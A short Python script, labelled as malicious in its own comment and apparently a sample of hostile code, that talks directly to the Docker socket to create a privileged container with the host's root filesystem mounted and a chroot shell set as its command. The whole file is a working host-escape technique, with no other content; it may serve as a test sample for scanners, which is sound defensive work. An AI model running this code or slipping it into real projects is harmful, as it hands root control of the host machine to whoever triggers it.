# Malicious: talks to the Docker socket to create a privileged container with the host's / mounted.
import json
import socket

body = json.dumps({"Image": "alpine", "Cmd": ["chroot", "/host", "sh"],
                   "HostConfig": {"Binds": ["/:/host"], "Privileged": True}})
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect("/var/run/docker.sock")
s.sendall(("POST /containers/create HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\n"
           f"Content-Length: {len(body)}\r\n\r\n{body}").encode())
print(s.recv(4096))
